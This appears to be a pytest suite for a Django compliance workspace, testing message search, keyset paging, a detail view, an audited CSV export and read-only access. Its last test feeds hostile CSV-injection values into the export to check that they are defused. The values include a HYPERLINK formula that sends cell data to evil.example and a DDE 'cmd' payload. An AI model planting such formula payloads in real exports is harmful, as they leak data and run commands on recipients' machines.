"""The compliance workspace: search by every field, keyset pages with no COUNT(*), message
detail with the decision sentence and timeline, CSV export; read-only."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from audit.digests import address_digest
from audit.models import AuditRecord
from hub.contacts.models import Contact
from hub.workspace.search import MessageFilters, messages_search, uuid7_floor
from templates_app.models import Category
from tests.factories import make_live_template, make_message

SEARCH_URL = reverse("admin:workspace_workspacemessage_changelist")
EXPORT_URL = reverse("admin:workspace_workspacemessage_export")


@pytest.fixture
def corpus(contact, live_template):
    other = Contact.objects.create(external_id="cust-2", phone="+447700900123", email="bo@example.com")
    promo = make_live_template(
        "promo.sale",
        category=Category.MARKETING,
        variants=[{"channel": "sms", "locale": "en", "text": "Sale!"}],
    )
    return {
        "delivered": make_message(template=live_template, contact=contact, outcome="delivered"),
        "email": make_message(template=live_template, contact=contact, channel="email", outcome="sent"),
        "blocked": make_message(template=promo, contact=other, outcome="queued"),  # the engine blocks it
        "failed": make_message(template=live_template, contact=other, outcome="failed"),
    }


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({"address": "+447911123456"}, {"delivered"}),
        ({"contact": "cust-2"}, {"blocked", "failed"}),
        ({"template": "promo.sale"}, {"blocked"}),
        ({"channel": "email"}, {"email"}),
        ({"status": "failed"}, {"failed"}),
        ({"block_reason": "no_consent"}, {"blocked"}),
        ({"rule": "marketing_consent"}, {"blocked"}),
        ({"rule": "marketing_consent v1"}, {"blocked"}),
        ({"rule": "marketing_consent v2"}, set()),
        ({"rule": "marketing"}, set()),
        ({}, {"delivered", "email", "blocked", "failed"}),
    ],
)
def test_search_by_each_field(corpus, filters, expected):
    found = {m.id for m in messages_search(filters=MessageFilters(**filters)).messages}
    assert found == {corpus[name].id for name in expected}


def test_date_range_uses_the_time_in_the_id(corpus):
    today = timezone.now().date()
    assert len(messages_search(filters=MessageFilters(date_from=today, date_to=today)).messages) == 4
    yesterday = today - timedelta(days=1)
    assert messages_search(filters=MessageFilters(date_to=yesterday)).messages == []
    assert messages_search(filters=MessageFilters(date_from=today + timedelta(days=1))).messages == []
    made = corpus["failed"]
    assert (
        uuid7_floor(made.created_at - timedelta(seconds=1))
        < made.id
        < uuid7_floor(timezone.now() + timedelta(seconds=1))
    )


def test_keyset_pages_cover_everything_once_without_counting(corpus):
    seen = []
    cursor = ""
    with CaptureQueriesContext(connection) as queries:
        while True:
            page = messages_search(filters=MessageFilters(), cursor=cursor, limit=3)
            seen += [m.id for m in page.messages]
            if not (cursor := page.next_cursor):
                break
    assert seen == sorted((m.id for m in corpus.values()), reverse=True)
    assert not any("COUNT(" in q["sql"].upper() for q in queries.captured_queries)


def test_search_page_in_admin(client, staff_factory, corpus):
    client.force_login(staff_factory("Compliance"))
    response = client.get(SEARCH_URL, {"status": "blocked"})
    assert response.status_code == 200
    assert list(response.context["page"].messages) == [corpus["blocked"]]
    assert b"promo.sale" in response.content


def test_bad_search_input_is_a_form_error(client, staff_factory, corpus):
    client.force_login(staff_factory("Compliance"))
    response = client.get(
        SEARCH_URL, {"status": "exploded", "date_from": "2026-02-01", "date_to": "2026-01-01"}
    )
    assert response.status_code == 200
    assert response.context["page"] is None
    assert set(response.context["form"].errors) == {"status", "date_to"}


def test_message_detail_shows_decision_content_and_timeline(client, staff_factory, corpus):
    client.force_login(staff_factory("Compliance"))
    blocked = client.get(reverse("admin:workspace_workspacemessage_change", args=[corpus["blocked"].id]))
    assert b"blocked by marketing_consent v1" in blocked.content
    assert [e.status for e in blocked.context["events"]] == ["accepted", "blocked"]
    assert {r.action for r in blocked.context["records"]} >= {"message.accepted", "message.status_changed"}
    delivered = client.get(reverse("admin:workspace_workspacemessage_change", args=[corpus["delivered"].id]))
    assert b"Hi Ada, order A-1 is on its way." in delivered.content
    missing = client.get(reverse("admin:workspace_workspacemessage_change", args=["not-a-uuid"]))
    assert missing.status_code == 404


def test_csv_export_streams_matches_and_is_audited(client, staff_factory, corpus):
    user = staff_factory("Compliance")
    client.force_login(user)
    response = client.get(EXPORT_URL, {"contact": "cust-2", "address": "+447700900123"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert {r["id"] for r in rows} == {str(corpus["blocked"].id), str(corpus["failed"].id)}
    blocked = next(r for r in rows if r["status"] == "blocked")
    assert (
        blocked["decision_sentence"].startswith("blocked by marketing_consent v1")
        and blocked["decided_by"] == "marketing_consent v1"
    )
    record = AuditRecord.objects.get(action="messages.exported")
    assert record.actor_id == str(user.pk)
    assert record.payload["address"] == address_digest("+447700900123")


def test_the_workspace_is_read_only(client, staff_factory, corpus):
    client.force_login(staff_factory("Compliance"))
    url = reverse("admin:workspace_workspacemessage_change", args=[corpus["blocked"].id])
    client.post(url, {"status": "delivered"})
    corpus["blocked"].refresh_from_db()
    assert corpus["blocked"].status == "blocked"
    assert client.get(reverse("admin:workspace_workspacemessage_add")).status_code == 403


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"],
)
def test_csv_export_defuses_formulas_in_imported_values(client, staff_factory, live_template, hostile):
    """An external id from a hostile contacts CSV comes back out as text, never as a formula
    a spreadsheet would run (OWASP CSV injection: a leading ' on = + - @ tab CR)."""
    contact = Contact.objects.create(external_id=hostile, phone="+447700900999")
    make_message(template=live_template, contact=contact, outcome="delivered")
    client.force_login(staff_factory("Compliance"))
    response = client.get(EXPORT_URL)
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["contact"] for r in rows] == ["'" + hostile]
